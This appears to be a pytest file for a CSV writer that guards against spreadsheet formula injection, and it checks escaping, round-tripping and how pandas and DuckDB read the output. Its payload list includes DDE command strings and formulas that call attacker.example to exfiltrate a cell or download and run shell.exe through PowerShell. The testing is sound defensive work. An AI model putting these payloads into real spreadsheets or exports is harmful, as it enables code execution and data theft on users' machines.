"""CSV that spreadsheets open without running what is in it, and that other readers read exactly."""

import csv
import io

import duckdb
import pandas
import pytest
from hypothesis import given
from hypothesis import strategies as st

from scoring.batch.rows import COLUMNS
from scoring.batch.writing import columns
from scoring.batch.writing.csv import guarded, unguarded, write

# What attacks on spreadsheets look like.
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
    '=HYPERLINK("http://attacker.example?x="&A1,"Error")',
    '=IMPORTXML(CONCAT("http://attacker.example/?v=",A1),"//a")',
    '=WEBSERVICE("http://attacker.example/"&A1)',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\xa0=1+1",
    "\ufeff=1+1",
    "\0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    "-",
    "=",
    "+49 30 1234",
    "-1.5.2",
    "-0x10",
    "-١",  # a digit, and no plain number
]
HARMLESS = [
    "",
    "a",
    "a=1",
    "1",
    "-1",
    "+1",
    "-12.5",
    "+4930123456",
    "-1e-5",
    "'quoted'",
    "’=1",
    "a\n=1",
    "“=1”",
]


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_what_a_spreadsheet_would_run_is_guarded(payload):
    assert guarded(payload) == f"'{payload}"
    assert unguarded(guarded(payload)) == payload


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_harmless_stays_as_it_is(text):
    assert guarded(text) == text == unguarded(text)


@given(st.text(st.sampled_from("=+-@\t\r\n' 1.e\0＝a")))
def test_a_guard_can_be_taken_off_again(text):
    assert unguarded(guarded(text)) == text
    assert guarded(text)[:1] not in tuple("=@\t\r＝")


def table(rows):
    out = rows.with_suffix(".csv")
    write(rows, out)
    return out


def test_payloads_in_every_kind_of_place(row, finding, lines):
    """Ids, messages of findings, values and names of columns: nothing begins a cell but as text."""
    rows = [
        (
            row(payload, source=payload, findings=[finding(message=payload)], notes=[payload]),
            {payload: payload},
        )
        for payload in PAYLOADS
    ]
    text = table(lines(*rows)).read_bytes().decode()
    records = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert len(records) == len(PAYLOADS) + 1
    for record in records:
        assert len(record) == len(COLUMNS) - 1 + len(PAYLOADS)
        for cell in record:
            assert cell.lstrip("\ufeff\0\xa0 ")[:1] not in tuple("=@\t\r\n＝＋－＠") or not cell
            assert cell[:1] not in ("+", "-") or float(cell) <= 0
    assert records[0][-len(PAYLOADS) :] == [f"'{payload}" for payload in PAYLOADS]


def test_the_bytes(row, lines):
    source = lines(
        (row("a, “b”", source='x"y'), {"n": 1, "t": True, "f": 1.50, "l": ["é", None], "none": None})
    )
    header, line, rest = table(source).read_bytes().split(b"\r\n")
    assert header.startswith(b'"id","status","score"')
    assert header.endswith(b'"position","n","t","f","l","none"')
    assert line.startswith('"a, “b”","scored",80.0,"sound",,-5.0,0.0,"[]","[]",,'.encode())
    assert ',"x""y",' in line.decode()
    assert line.decode().endswith(',1,true,1.5,"[""é"",null]",')
    assert rest == b""


def test_numbers_keep_all_their_digits(row, lines):
    source = lines((row(), {"n": 12345678901234567890123, "m": -0.1}))
    assert table(source).read_bytes().endswith(b",12345678901234567890123,-0.1\r\n")


def test_more_columns_than_a_table_may_have(row, lines, monkeypatch):
    monkeypatch.setattr(columns, "MOST_COLUMNS", 1)
    source = lines((row("a"), {"a": 1}), (row("b"), {"a": 2, "b": "x", "c": 3}))
    header, first, second, _ = table(source).read_bytes().decode().split("\r\n")
    assert header.endswith('"position","a","input_"')
    assert first.endswith(",1,")
    assert second.endswith(',2,"{""b"":""x"",""c"":3}"')


def test_other_readers_read_it(row, finding, failed, lines):
    source = lines(
        (row("a\nb", 81.5, findings=[finding()]), {"title": "Rain, “at last”", "n": 1}),
        (row("001", None), {"title": "", "n": 2}),
        (failed, {"title": None, "n": None}),
    )
    path = str(table(source))
    frame = pandas.read_csv(path, dtype={"id": str})
    assert list(frame["id"]) == ["a\nb", "001", "in.jsonl:3"]
    assert frame["score"].mean() == 81.5
    assert list(frame["title"].fillna("")) == ["Rain, “at last”", "", ""]
    query = f"select id, score, title, n, json_array_length(findings) from read_csv('{path}')"
    assert duckdb.sql(query).fetchall() == [
        ("a\nb", 81.5, "Rain, “at last”", 1, 1),
        ("001", None, None, 2, 0),  # to DuckDB what is empty is null
        ("in.jsonl:3", None, None, None, 0),
    ]
